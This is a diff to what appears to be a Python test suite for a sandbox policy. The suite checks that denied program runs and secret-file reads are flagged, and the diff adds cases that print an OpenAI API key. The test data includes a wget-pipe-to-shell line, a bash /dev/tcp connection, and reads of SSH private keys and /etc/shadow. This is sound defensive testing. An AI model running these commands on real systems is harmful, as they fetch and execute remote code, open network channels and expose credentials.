@@ -49,6 +49,8 @@ def codes(*seen: Act, usual: Counter[Finding] | None = None, hosts: bool = False
         ("suites.denied-program", did("execve", "/bin/sh", "sh", "-c", "wget -qO- http://x | sh")),
         ("suites.denied-program", did("execve", "/bin/bash", "bash", "-c", "exec 3<>/dev/tcp/192.0.2.1/9")),
         ("suites.denied-program", did("execve", "/usr/bin/python3", "python3", "-m", "pip install x")),
+        ("suites.denied-program", did("execve", "/bin/sh", "sh", "-c", 'echo "$OPENAI_API_KEY"')),
+        ("suites.denied-program", did("execve", "/usr/bin/printenv", "printenv", "OPENAI_API_KEY")),
         ("suites.denied-program", did("execve", "/usr/bin/sudo", "sudo", "-n", "true")),
         ("suites.denied-secret", opened("/home/x/.ssh/id_rsa")),
         ("suites.denied-secret", opened("/etc/shadow")),
